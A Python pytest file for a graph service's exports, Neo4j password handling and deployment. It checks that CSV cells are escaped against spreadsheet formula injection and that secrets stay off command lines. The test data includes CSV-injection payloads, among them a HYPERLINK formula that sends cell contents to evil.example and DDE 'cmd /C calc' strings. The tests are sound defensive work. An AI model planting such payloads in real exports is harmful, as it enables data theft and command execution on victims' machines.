"""Exports and files, the local Neo4j's password, deployment (issue 10, §4 and §7).

- Every CSV the service writes is safe to open in a spreadsheet, through one function
  (csvio.spreadsheet_safe), and the importer reads the escape back: export → import still
  gives the same graph, for nasty values too.
- An export is a 0700 folder of 0600 files, and says on stderr that it holds identity data.
- The Neo4j password never appears on a command line, and one that starts with `-` works.
- `graphsvc serve` (and gunicorn started directly) refuses to start when the audit journal
  cannot be written; docker-compose gives the journal a volume the image's user owns.
- gunicorn trusts forwarded headers exactly as GRAPHSVC_PROXY_HOPS says; no shared control socket.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import re
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from neo4j import GraphDatabase

from graphsvc import audit, csvio, neo4j_local
from graphsvc.cli import main
from graphsvc.csvio import FORMULA_STARTS, spreadsheet_safe, spreadsheet_unescape

from .helpers import import_folder, keyring, rewrite, sign_in, snapshot
from .helpers import test_env as _test_env

ROOT = Path(__file__).resolve().parent.parent
#: What a spreadsheet may run: OWASP's list, line feed and NUL (ASVS 1.2.10), the full-width forms.
TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")
NASTY = [
    "=1+1",
    "'=x",
    "'",
    "''",
    "+82 10-1234-5678",
    "-",
    "＝",
    '＝HYPERLINK("http://x")',
    "목련",
    '=HYPERLINK("http://x","y")',
    "@SUM(A1)",
    "＠x",
    "－3",
    "＋1",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "a,=b",
    'a"b',
    "a;=b",
    "line\nbreak",
    "'quoted'",
    " 'x",
    "\u3000=1",
    "\xa0+1",
    "",
]


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def _dangerous(cell: str) -> bool:
    """Would a spreadsheet start a formula with this cell (the apostrophe makes it text)?"""
    return cell[:1] in TRIGGERS or (not cell.startswith("'") and cell.lstrip()[:1] in TRIGGERS)


# --- one function makes every cell safe, and the importer reads it back -----------------------


@pytest.mark.parametrize("value", [v for v in NASTY if v.lstrip()[:1] in TRIGGERS or v[:1] in TRIGGERS])
def test_every_formula_start_is_neutralised(value):
    assert spreadsheet_safe(value).startswith("'") and not _dangerous(spreadsheet_safe(value))


def test_the_owasp_characters_and_their_full_width_forms_are_covered():
    assert set("=+-@\t\r") <= FORMULA_STARTS  # OWASP's CSV injection page
    assert set("\n\0") <= FORMULA_STARTS  # line feed, NUL (ASVS 1.2.10)
    assert set("＝＋－＠") <= FORMULA_STARTS
    assert [c for c in sorted(TRIGGERS) if spreadsheet_safe(c + "1") != "'" + c + "1"] == []


@given(st.text())
@hypothesis_settings(max_examples=500, deadline=None, database=None)
def test_escaping_is_safe_and_reversible(value):
    cell = spreadsheet_safe(value)
    assert not _dangerous(cell)
    assert spreadsheet_unescape(cell) == value  # unambiguous: an apostrophe of the value gets one more


def _round_trip(tmp_path: Path, values: list[str], bom: bool = True) -> list[str]:
    table = csvio.Table("t", ("id", "value"), ("id",))
    path = tmp_path / "t.csv"
    csvio.write_table(path, table, [{"id": f"r{i}", "value": v} for i, v in enumerate(values)], bom=bom)
    for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
        assert not any(_dangerous(cell) for cell in row), row
    header, rows = csvio.read_rows(path)
    assert header == ["id", "value"]
    got = {row["id"]: row["value"] for _, row in rows}
    return [got[f"r{i}"] for i in range(len(values))]


def test_nasty_values_round_trip_through_the_files(tmp_path):
    # read_rows strips surrounding white space (as it always did); an escaped value keeps its leading one
    expected = [v if spreadsheet_safe(v) != v else v.strip() for v in NASTY]
    assert _round_trip(tmp_path, NASTY) == [e.rstrip() for e in expected]


@given(st.lists(st.text().map(str.strip), min_size=1, max_size=8))
@hypothesis_settings(max_examples=200, deadline=None, database=None)
def test_any_value_round_trips_through_write_table_and_read_rows(values):
    with tempfile.TemporaryDirectory() as tmp:
        assert _round_trip(Path(tmp), values, bom=bool(len(values) % 2)) == values


def test_no_csv_is_written_but_through_csvio():
    """The service's CSV (export, unvisited list, audit export) all come from csvio's writer."""
    offenders = []
    for path in list((ROOT / "graphsvc").glob("*.py")) + list((ROOT / "web").glob("*.py")):
        if path.name == "csvio.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.name}:{node.lineno}")
    assert not offenders, offenders


def test_the_audit_csv_neutralises_full_width_formulas(app, world):
    """Anyone can put a formula into the audit log: the User-Agent of any request is recorded."""
    from graphsvc.model import Actor

    for agent in ('＝HYPERLINK("http://evil.example/?"&A1)', "＠SUM(1)", "－1+cmd", "\t=1"):
        audit.append_now(world, **Actor("somebody", "visitor", "203.0.113.9", agent).event(), action="test.agent")
    client = app.test_client()
    sign_in(client, "admin")
    exported = client.get("/admin/audit/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    agents = [r[rows[0].index("user_agent")] for r in rows[1:] if r[rows[0].index("action")] == "test.agent"]
    assert len(agents) == 4 and all(a.startswith("'") for a in agents), agents
    assert not any(_dangerous(cell) for row in rows for cell in row)


def test_write_table_is_private_from_creation(tmp_path):
    table = csvio.TABLES["people"]
    path = tmp_path / "people.csv"
    path.write_text("old,readable,by,all\n")
    os.chmod(path, 0o644)
    seen = []

    def rows():
        seen.append(stat.S_IMODE(path.stat().st_mode))  # while the file is being written
        yield {"id": "p-1", "code_name": "=x"}

    old = os.umask(0)  # the mode must not come from the umask
    try:
        csvio.write_table(path, table, rows())
        csvio.write_table(tmp_path / "new.csv", table, rows())
    finally:
        os.umask(old)
    assert seen == [0o600, 0o600]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 == stat.S_IMODE((tmp_path / "new.csv").stat().st_mode)
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(OSError):
        csvio.write_table(link, table, [])
    assert not (tmp_path / "elsewhere.csv").exists()


# --- graphsvc export ----------------------------------------------------------------------------


IDENTITY_VALUES = {  # people.csv: legal_name, phone, address of p-001 … p-004; visits.csv: notes
    # (a phone is a phone: records.PHONE_RE; a leading '+' is still a formula to a spreadsheet)
    "p-001": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+82 10-1234-5678", "'=x"),
    "p-002": ("＝1+1", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "p-003": ("'", "", "＠home"),
    "p-004": ("-", "", "－3"),
}
NOTES = {"v-001": "+cmd|' /C calc'!A0", "v-003": "'처음 방문"}


def _nasty_identity(small: Path) -> None:
    """Identity values that a spreadsheet would run, written as the export writes them."""

    def people(rows):
        for r in rows[1:]:
            if r[0] in IDENTITY_VALUES:
                r[3:6] = [spreadsheet_safe(v) for v in IDENTITY_VALUES[r[0]]]

    def visits(rows):
        for r in rows[1:]:
            if r[0] in NOTES:
                r[6] = spreadsheet_safe(NOTES[r[0]])

    rewrite(small, "people", people)
    rewrite(small, "visits", visits)


def test_export_is_private_safe_and_round_trips(db, cli_env, small, tmp_path):
    _nasty_identity(small)
    assert import_folder(db, small).ok
    person = db.read("snapshot")[0]  # the importer read the escapes back: the values as meant
    stored = {p["id"]: p for labels, p in person["nodes"] if labels == ["Person"]}
    assert keyring().decrypt(stored["p-001"]["address"], "Person", "p-001", "address") == "'=x"
    assert keyring().decrypt(stored["p-003"]["legal_name"], "Person", "p-003", "legal_name") == "'"
    before = snapshot(db, decrypt=True)

    out = tmp_path / "nested" / "export"
    old = os.umask(0o022)
    try:
        result = run("export", str(out))
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert "IDENTITY DATA" in result.stderr and str(out) in result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = sorted(out.iterdir())
    assert [f.name for f in files] == sorted(t.filename for t in csvio.TABLES.values())  # no .partial left
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
            assert not any(_dangerous(cell) for cell in row), (path.name, row)
    text = (out / "people.csv").read_text(encoding="utf-8-sig")
    assert "\"'=HYPERLINK(" in text and '"\'＝1+1"' in text and "\"''=x\"" in text

    db.run_autocommit("wipe_all")
    assert run("import", str(out)).exit_code == 0
    assert snapshot(db, decrypt=True) == before

    redacted = run("export", str(tmp_path / "redacted"), "--redact")
    assert redacted.exit_code == 0 and "IDENTITY DATA" not in redacted.stderr


def test_export_refuses_a_folder_others_can_enter(db, cli_env, small, tmp_path):
    assert import_folder(db, small).ok
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o755)
    result = run("export", str(shared))
    assert result.exit_code == 1
    assert f"{shared} can be entered by other users (mode 0755)" in result.stderr
    assert "chmod 700" in result.stderr
    assert list(shared.iterdir()) == [] and stat.S_IMODE(shared.stat().st_mode) == 0o755
    assert not audit.query(db, action="export.start")  # refused before anything happened

    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    assert "is not a folder" in run("export", str(a_file)).stderr

    os.chmod(shared, 0o700)  # a private folder that exists is fine; stale partials are replaced
    (shared / "people.csv.partial").write_text("stale")
    os.chmod(shared / "people.csv.partial", 0o644)
    outside = tmp_path / "outside.csv"
    outside.write_text("not the export's")
    (shared / "visits.csv.partial").symlink_to(outside)  # never written through
    assert run("export", str(shared)).exit_code == 0
    assert outside.read_text() == "not the export's"
    assert sorted(p.name for p in shared.iterdir()) == sorted(t.filename for t in csvio.TABLES.values())
    assert all(stat.S_IMODE(p.lstat().st_mode) == 0o600 for p in shared.iterdir())


# --- the local Neo4j's password -----------------------------------------------------------------


def _local(settings):
    if not settings.uses_local:
        pytest.skip("the tests use an external server (GRAPHSVC_TEST_NEO4J_URI)")
    return settings.local


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.parametrize(
    "value", ["-starts-with-a-dash", 'a"b\\c d#e', "'single' quotes", "@not-a-file", "--", "ends with backslash\\"]
)
def test_an_argfile_line_is_exactly_one_argument_for_the_real_java_launcher(settings, tmp_path, value):
    local = _local(settings)
    argfile = tmp_path / "probe.args"
    argfile.write_text(
        neo4j_local.argfile_line(f"-Dgraphsvc.probe={value}")
        + "\n"
        + neo4j_local.argfile_line("-XshowSettings:properties")
        + "\n-version\n"
    )
    shown = subprocess.run([neo4j_local.java_executable(local), f"@{argfile}"], capture_output=True, text=True).stderr
    assert f"graphsvc.probe = {value}\n" in shown
    with pytest.raises(neo4j_local.Neo4jError):
        neo4j_local.argfile_line("new\nline")


def test_admin_tool_takes_a_password_that_starts_with_a_dash(settings):
    """`--` before the password, with Neo4j's real AdminTool (picocli)."""
    base = _local(settings)
    local = replace(base, name=f"dash-{os.getpid()}")
    try:
        for sub in ("conf", "data", "logs", "run"):
            (local.home / sub).mkdir(parents=True)
        neo4j_local.write_conf(local)
        neo4j_local.set_initial_password(local, "-" + secrets.token_urlsafe(24))
        assert (local.home / "data" / "dbms" / "auth.ini").exists()
        assert not (local.home / "run" / "admin.args").exists()
    finally:
        shutil.rmtree(local.home, ignore_errors=True)


class _CmdlineWatch(threading.Thread):
    """Reads every process's command line, again and again, looking for ``secret``."""

    def __init__(self, secret: str):
        super().__init__(daemon=True)
        self.secret = secret.encode()
        self.halt = threading.Event()
        self.hits: list[str] = []
        self.rounds = 0

    def run(self) -> None:
        while not self.halt.is_set():
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
                    except OSError:
                        continue
                    if self.secret in cmdline:
                        self.hits.append(cmdline.replace(b"\0", b" ").decode(errors="replace"))
            self.rounds += 1
            time.sleep(0.005)  # the AdminTool's JVM lives a second or more


def test_install_with_a_dash_password_keeps_it_off_every_command_line(settings, tmp_path):
    """A fresh instance whose password starts with `-` installs, starts and accepts it; no
    process's command line ever holds it (java is wrapped to record its arguments, and
    /proc is read all along)."""
    base = _local(settings)
    real_java = os.path.realpath(neo4j_local.java_executable(base))
    jdk = tmp_path / "jdk"
    (jdk / "bin").mkdir(parents=True)
    argv_log = tmp_path / "java-argv.log"
    (jdk / "bin" / "java").write_text(f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> '{argv_log}'\nexec '{real_java}' \"$@\"\n")
    os.chmod(jdk / "bin" / "java", 0o755)
    local = replace(base, name=f"dash-life-{os.getpid()}", bolt_port=_free_port(), java_home=str(jdk))
    password = "-" + secrets.token_urlsafe(24)
    watch = _CmdlineWatch(password)
    watch.start()
    try:
        neo4j_local.install(local, say=lambda _m: None, new_password=lambda: password)
        watch.halt.set()
        watch.join()
        neo4j_local.start(local, say=lambda _m: None)
        assert neo4j_local.read_password(local) == password
        with GraphDatabase.driver(local.uri, auth=("neo4j", password)) as driver:
            records, _, _ = driver.execute_query("RETURN 1 AS one")
            assert records[0]["one"] == 1
    finally:
        watch.halt.set()
        neo4j_local.stop(local, say=lambda _m: None)
        shutil.rmtree(local.home, ignore_errors=True)
    leaks = [c for c in argv_log.read_text().splitlines() if password in c]
    print(f"/proc read {watch.rounds} times during install; leaks: {watch.hits}; java argv leaks: {leaks}")
    assert watch.rounds > 10 and not watch.hits, watch.hits
    assert not leaks, leaks
    assert any("admin.args" in c for c in argv_log.read_text().splitlines())  # the AdminTool went through the wrapper


# --- serve: the journal, forwarded headers, the control socket ----------------------------------


def _unprivileged() -> list[str]:
    """A command prefix that runs a command without the power to write other users' files.

    The tests (and CI) run as root, which writes anywhere; the interpreter lives under
    /root, so switching to `nobody` is no option. Dropping CAP_DAC_OVERRIDE (setpriv, from
    util-linux) makes root meet file modes like any user: a folder of another user, mode
    0700, is then as unwritable as /app was for the Docker image's user.
    """
    if os.geteuid() != 0:
        return []
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv (util-linux) to drop CAP_DAC_OVERRIDE")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-all", "--"]


@pytest.fixture()
def state_dirs():
    """A state folder the server cannot write (another user's, 0700; read-only when not
    root) and one it can (its own)."""
    parent = Path(tempfile.mkdtemp(prefix="graphsvc-state-"))
    os.chmod(parent, 0o755)
    locked, own = parent / "locked", parent / "own"
    locked.mkdir(mode=0o700)
    own.mkdir(mode=0o700)
    if os.geteuid() == 0:
        os.chown(locked, 65534, 65534)
    else:
        os.chmod(locked, 0o500)
    yield locked, own, parent
    os.chmod(locked, 0o700)
    shutil.rmtree(parent, ignore_errors=True)


def _env(**extra: str) -> dict[str, str]:
    env = _test_env()
    env.pop("GRAPHSVC_AUDIT_JOURNAL", None)
    env.pop("XDG_RUNTIME_DIR", None)
    env.update(extra)
    return env


def test_serve_refuses_to_start_when_the_journal_cannot_be_written(state_dirs):
    locked, own, parent = state_dirs
    graphsvc = str(Path(sys.executable).with_name("graphsvc"))
    env = _env(GRAPHSVC_STATE_DIR=str(locked), HOME=str(parent))
    proc = subprocess.Popen(
        [*_unprivileged(), graphsvc, "serve", "--port", str(_free_port()), "--workers", "1"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        _, stderr = proc.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail("serve started although its audit journal cannot be written")
    assert proc.returncode == 1
    assert f"the audit journal {locked}/audit/journal.jsonl cannot be written" in stderr
    assert "Permission denied" in stderr and "GRAPHSVC_STATE_DIR" in stderr

    # the check passes for a folder the user owns (the Docker image's /var/lib/graphsvc)
    check = (
        "from graphsvc.config import load_settings; from web import check_audit_journal; "
        "check_audit_journal(load_settings()); print('writable')"
    )
    ok = subprocess.run(
        [*_unprivileged(), sys.executable, "-c", check],
        env=_env(GRAPHSVC_STATE_DIR=str(own), HOME=str(parent)),
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert ok.stdout.strip() == "writable", ok.stderr
    assert stat.S_IMODE((own / "audit").stat().st_mode) == 0o700
    assert stat.S_IMODE((own / "audit" / "journal.jsonl").stat().st_mode) == 0o600


def test_gunicorn_started_directly_refuses_too(state_dirs, tmp_path):
    """The Dockerfile of old ran gunicorn itself: create_app's check stops the workers."""
    locked, _, parent = state_dirs
    gunicorn = str(Path(sys.executable).with_name("gunicorn"))
    log = tmp_path / "gunicorn.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [
                *_unprivileged(),
                gunicorn,
                "--bind",
                f"127.0.0.1:{_free_port()}",
                "--workers",
                "1",
                "--no-control-socket",
                "web:create_app()",
            ],
            env=_env(GRAPHSVC_STATE_DIR=str(locked), HOME=str(parent)),
            cwd=ROOT,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    try:
        code = proc.wait(timeout=60)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        pytest.fail("gunicorn served although the audit journal cannot be written")
    assert code != 0
    assert "cannot be written" in log.read_text(errors="replace")


def test_create_app_refuses_an_unwritable_journal(settings, tmp_path):
    from web import StartupError, create_app

    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    with pytest.raises(StartupError, match="cannot be written"):
        create_app(replace(settings, audit_journal_override=blocker / "journal.jsonl"))


def test_create_app_refuses_a_journal_key_it_cannot_read(settings, tmp_path, monkeypatch):
    """In Docker the image's user cannot make a key file: without GRAPHSVC_AUDIT_JOURNAL_KEY
    every audited request would fail, so the start fails, naming the variable."""
    from web import StartupError, create_app

    monkeypatch.setenv("GRAPHSVC_AUDIT_JOURNAL_KEY", "not a key")
    with pytest.raises(StartupError, match="GRAPHSVC_AUDIT_JOURNAL_KEY"):
        create_app(replace(settings, audit_journal_override=tmp_path / "journal.jsonl"))


class _Server:
    """`graphsvc serve` on a free port, its output in a log file."""

    def __init__(self, log: Path, **env: str):
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log = log
        graphsvc = str(Path(sys.executable).with_name("graphsvc"))
        with log.open("wb") as out:
            self.proc = subprocess.Popen(
                [graphsvc, "serve", "--port", str(self.port), "--workers", "1", "--threads", "1"],
                env=_env(**env),
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        deadline = time.monotonic() + 60
        while not self.answers():
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.stop()
                pytest.fail("graphsvc serve did not start:\n" + log.read_text(errors="replace")[-3000:])
            time.sleep(0.2)

    def answers(self) -> bool:
        try:
            with urllib.request.urlopen(self.url + "/healthz", timeout=2) as response:
                return response.status == 200
        except OSError:
            return False

    def cookies(self, **headers: str) -> list[str]:
        request = urllib.request.Request(self.url + "/healthz", headers=headers)
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.headers.get_all("Set-Cookie") or []

    def stop(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()


@pytest.fixture()
def home(tmp_path) -> Path:
    """A home folder of the servers' own: gunicorn would put its control socket there."""
    path = tmp_path / "home"
    path.mkdir()
    return path


def test_forwarded_proto_is_trusted_exactly_as_proxy_hops_says(settings, home, tmp_path):
    direct = _Server(tmp_path / "hops0.log", HOME=str(home), GRAPHSVC_PROXY_HOPS="0")
    proxied = _Server(tmp_path / "hops1.log", HOME=str(home), GRAPHSVC_PROXY_HOPS="1")
    try:
        # from 127.0.0.1, with no proxy configured: the header is the client's word, not https
        spoofed = direct.cookies(**{"X-Forwarded-Proto": "https"})
        assert spoofed and all("gs_pre=" in c and "Secure" not in c for c in spoofed), spoofed
        # behind one proxy that says https: Secure cookies (werkzeug's ProxyFix)
        behind = proxied.cookies(**{"X-Forwarded-Proto": "https"})
        assert behind and all("Secure" in c for c in behind), behind
        assert all("Secure" not in c for c in proxied.cookies())
    finally:
        direct.stop()
        proxied.stop()


def test_two_servers_do_not_share_a_control_socket(settings, home, tmp_path):
    first = _Server(tmp_path / "first.log", HOME=str(home))
    second = _Server(tmp_path / "second.log", HOME=str(home))
    try:
        sockets = [p for p in home.rglob("*") if p.is_socket() or p.name.endswith(".ctl")]
        assert not sockets, f"gunicorn control socket(s): {sockets}"
        first.stop()
        assert second.proc.poll() is None and second.answers()
        assert not [p for p in home.rglob("*") if p.is_socket() or p.name.endswith(".ctl")]
    finally:
        first.stop()
        second.stop()


# --- Docker -------------------------------------------------------------------------------------


def _dockerfile() -> list[str]:
    """The Dockerfile's instructions, continuation lines joined, comments left out."""
    text = re.sub(r"\\\n\s*", " ", (ROOT / "Dockerfile").read_text())
    return [line.strip() for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def test_compose_gives_the_journal_a_volume_the_image_user_owns():
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    app = compose["services"]["app"]
    state = app["environment"]["GRAPHSVC_STATE_DIR"]
    # the image's user cannot create key files in /app/.secrets: the keys come from .env
    for key in ("GRAPHSVC_DATA_KEY", "GRAPHSVC_AUDIT_JOURNAL_KEY", "GRAPHSVC_AUDIT_CHECKPOINT_KEY"):
        assert app["environment"][key] == f"${{{key}:?set {key} in .env}}", key
    volumes = {v.split(":")[1]: v.split(":")[0] for v in app["volumes"]}
    assert state in volumes and volumes[state] in compose["volumes"], app["volumes"]

    lines = _dockerfile()
    assert f"ENV GRAPHSVC_STATE_DIR={state}" in lines
    run = next(i for i, line in enumerate(lines) if line.startswith("RUN") and state in line)
    assert re.search(rf"install -d -m 0700 -o graphsvc -g graphsvc {re.escape(state)}\b", lines[run])
    user = lines.index("USER graphsvc")
    assert run < user, "the folder is made before the image switches to its user"
    assert "useradd" in lines[run] or any("useradd" in line for line in lines[:run])
    assert lines[-1] == 'CMD ["graphsvc", "serve", "--host", "0.0.0.0", "--port", "5000"]'


def test_compose_healthcheck_keeps_the_password_off_the_command_line():
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    command = " ".join(compose["services"]["neo4j"]["healthcheck"]["test"])
    assert not re.search(r"(^|\s)(-p|--password)(\s|=|$)", command), command
    assert 'NEO4J_PASSWORD="$$HEALTHCHECK_PASSWORD" cypher-shell' in command  # its environment only
